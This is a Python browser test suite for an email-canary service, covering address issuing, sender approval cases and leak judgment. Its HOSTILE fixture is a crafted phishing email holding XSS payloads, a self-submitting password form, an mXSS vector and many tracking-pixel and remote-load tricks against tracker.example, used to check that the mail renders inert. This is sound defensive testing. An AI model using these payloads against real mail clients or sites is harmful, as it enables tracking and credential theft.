"""What people do, from end to end: a real browser, a real listener and worker, and the story of the demo before."""

import json
import shutil
from collections.abc import Iterator
from pathlib import Path

import pytest
from playwright.sync_api import BrowserContext, Page, expect

from canary.processes.spools import clock
from tests.browser.conftest import Look, Shown, copied
from tests.processes import House, Running
from tests.signer import dkim, ed25519

pytestmark = pytest.mark.browser

SHOTS = Path(__file__).parent / "shots"
RECEIPT = "Tea House has taken 41.90 from your card. Details: https://tillroll.example/r/77"
OFFER = b"""\
From: Pier <deals@pier.example>\r
Subject: Forty percent off\r
List-Unsubscribe: <https://pier.example/u>\r
\r
Everything at our pier is forty percent off this week.\r
"""
PIER, TILLROLL = ed25519("pier.example"), ed25519("tillroll.example")
HOSTILE = b"""\
From: "Your Bank" <x@evil.example>\r
Subject: <img src=http://tracker.example/subject.png onerror=alert(1)>\r
Content-Type: text/html; charset=utf-8\r
\r
<html><head><meta http-equiv="refresh" content="0;url=http://tracker.example/refresh">
<base href="http://tracker.example/"><link rel="stylesheet" href="http://tracker.example/sheet.css">
<style>@import url("http://tracker.example/import.css"); body { background: url(http://tracker.example/bg.png) }</style>
<link rel="preload" as="image" href="http://tracker.example/preload.png"><link rel="dns-prefetch" href="//tracker.example"></head>
<body background="http://tracker.example/body.png"><p style="background-image: u\\72l(http://tracker.example/esc.png)">Dear customer</p>
<img src="http://tracker.example/pixel.png" srcset="http://tracker.example/2x.png 2x"><svg><image href="http://tracker.example/svg.png"/>
<script>fetch("http://tracker.example/svgscript")</script></svg><script>fetch("http://tracker.example/script")</script>
<form action="http://tracker.example/form" id="f"><input name="password" autofocus onfocus="this.form.submit()"></form>
<iframe src="http://tracker.example/frame"></iframe><video src="http://tracker.example/v.mp4" autoplay></video>
<object data="http://tracker.example/o"></object><a href="http://tracker.example/click" ping="http://tracker.example/ping">Click</a>
<math><mtext><style><img src="http://tracker.example/mxss.png"></style></mtext></math></body></html>\r
"""


@pytest.fixture(scope="module")
def house(demo: Path, tmp_path_factory: pytest.TempPathFactory) -> Iterator[House]:
    """An installation in which the story has happened, and in whose DNS two strangers have a key."""
    folder = tmp_path_factory.mktemp("walks")
    (folder / "data").mkdir()
    copied(demo, folder / "data")
    zone = json.loads((demo / "zone.json").read_text()) | PIER.zone() | TILLROLL.zone()
    (folder / "names.json").write_text(json.dumps(zone))
    shutil.copytree(demo / "spool", folder / "data" / "spool")
    environ = {
        "CANARY_DOMAINS": '["inbox.example"]',
        "CANARY_DNS__ZONE": str(folder / "names.json"),
        "CANARY_JUDGE__CASE_AT": "0",
    }
    with House(folder, environ).open() as house:
        yield house


@pytest.fixture(scope="module")
def running(house: House) -> Iterator[Running]:
    """All roles of it, as processes of their own."""
    with house.running("up", until=("web listening on", "smtp listening on", "worker ready")) as running:
        yield running


@pytest.fixture
def look(house: House, running: Running, context: BrowserContext) -> Look:
    """A browser that is logged in and shows the overview."""
    look = Look(context.new_page())
    Shown(_web(running), house.store, clock).enter(look.page)
    return look


@pytest.mark.everyday
def test_an_address_is_issued_and_its_first_mail_is_seen_to_arrive(running: Running, look: Look) -> None:
    address = _issue(look.page, "Bike Parts", "bikeparts.example")
    look.page.evaluate("window.stayed = true")
    token = str(look.page.locator("[data-copy]").nth(1).get_attribute("data-copy"))
    _send(running, address, f"From: me@home.example\r\nSubject: {token}\r\n\r\nHello.\r\n".encode())
    expect(look.page.locator("#feed").get_by_text("self test")).to_be_visible()
    assert look.page.evaluate("window.stayed") is True
    assert (look.faults, look.strangers(_web(running))) == ([], [])


def test_refusing_a_sender_opens_a_case_and_approving_it_changes_the_case(running: Running, look: Look) -> None:
    page = look.page
    address = _issue(page, "Tea House", "teahouse.example")
    _send(running, address, dkim(_receipt(), TILLROLL), "b@tillroll.example")
    expect(page.get_by_role("link", name="Your receipt")).to_be_visible()
    page.goto(f"{_web(running)}/senders")
    page.screenshot(path=SHOTS / "asking.png")
    page.get_by_role("button", name="tillroll.example is not Tea House\u2019s").click()
    page.goto(f"{_web(running)}/vendors/tea-house")
    page.locator(".cases a").first.click()
    before, case = page.locator("#main .state").first.inner_text(), page.url
    page.goto(f"{_web(running)}/vendors/tea-house")
    page.get_by_role("button", name="tillroll.example is Tea House\u2019s").click()
    page.goto(case)
    assert page.locator("#main .state").first.inner_text() != before
    assert "approved" in page.locator("#main").inner_text()


def test_an_outsider_is_the_vendors_after_all_until_that_is_taken_back(running: Running, look: Look) -> None:
    page = look.page
    address = _issue(page, "Tea Room", "tearoom.example")
    canary = page.url
    _send(running, address, dkim(OFFER, PIER), "b@pier.example")
    page.get_by_role("link", name="Forty percent off").click()
    mail, leaked = page.url, _standing(page, canary, page.url)
    assert leaked[1:] == ("burned", "third party", "new")
    told = f"If it is Tea Room\u2019s: 1 past mail is judged again; {leaked[0]} closes; {address} is free again."
    expect(page.locator("#whose .effects li").first).to_have_text(told)
    page.screenshot(path=SHOTS / "whose.png", full_page=True)
    page.get_by_role("button", name="pier.example is Tea Room\u2019s").click()
    assert (page.url, _standing(page, canary, mail, leaked[0])[1:]) == (mail, ("active", "expected", "explained"))
    page.get_by_role("button", name="Take the answer about pier.example back").click()
    assert _standing(page, canary, mail) == leaked
    assert (look.faults, look.strangers(_web(running))) == ([], [])


def test_a_hostile_mail_is_read_and_nothing_leaves(running: Running, look: Look) -> None:
    page = look.page
    address = _issue(page, "Old Maps", "oldmaps.example")
    _send(running, address, HOSTILE)
    page.get_by_role("link", name="<img src=http://tracker.example").click()
    page.get_by_role("link", name="HTML, inert").click()
    frame = page.frame_locator("iframe")
    expect(frame.get_by_text("Dear customer")).to_be_visible()
    expect(frame.get_by_text("Click")).to_be_visible()
    frame.get_by_text("Click").click()
    assert (frame.locator("img, form, input, script, iframe, svg, a[href]").count(), page.url.count("html=1")) == (0, 1)
    assert (look.faults, look.strangers(_web(running))) == ([], [])


def test_a_slash_searches_from_anywhere(running: Running, look: Look) -> None:
    look.page.keyboard.press("/")
    assert look.page.evaluate("document.activeElement.id") == "find"


def _standing(page: Page, canary: str, mail: str, case: str = "") -> tuple[str, str, str, str]:
    """The case of a mail, and what address, mail and case are; the page of the mail is shown at the end."""
    page.goto(mail)
    # The case opens as soon as it was weighed, a moment after its mail is there.
    for _ in range(100):
        if case or page.locator(".judged a[href^='/cases/']").filter(has_text="case").count():
            break
        page.wait_for_timeout(100)
        page.reload()
    page.goto(canary)
    address = page.locator(".answer .state").inner_text()
    page.goto(mail)
    verdict = page.locator(".judged .state").first.inner_text()
    case = case or page.locator(".judged a[href^='/cases/']").inner_text()
    page.goto(f"{mail.rpartition('/mail/')[0]}/cases/{case.rpartition(' ')[2]}")
    state = page.locator(".head .who .state").first.inner_text()
    page.goto(mail)
    return case, address, verdict, state


def _web(running: Running) -> str:
    return running.said("web listening on").rpartition(" ")[2]


def _issue(page: Page, vendor: str, domain: str) -> str:
    """Issue an address by the form, as somebody who is new to it does."""
    page.get_by_role("link", name="Canaries").click()
    page.get_by_label("Vendor", exact=True).first.fill(vendor)
    page.get_by_label("It writes from").fill(domain)
    page.get_by_role("button", name="Issue", exact=True).click()
    return str(page.locator("[data-copy]").first.get_attribute("data-copy"))


def _send(running: Running, address: str, content: bytes, sender: str = "") -> None:
    with running.client() as client:
        client.sendmail(sender, [address], content)


def _receipt() -> bytes:
    """A payment service writes about business with the vendor, under its own name, which it proves."""
    return f"From: Tillroll <receipts@tillroll.example>\r\nSubject: Your receipt\r\n\r\n{RECEIPT}\r\n".encode()
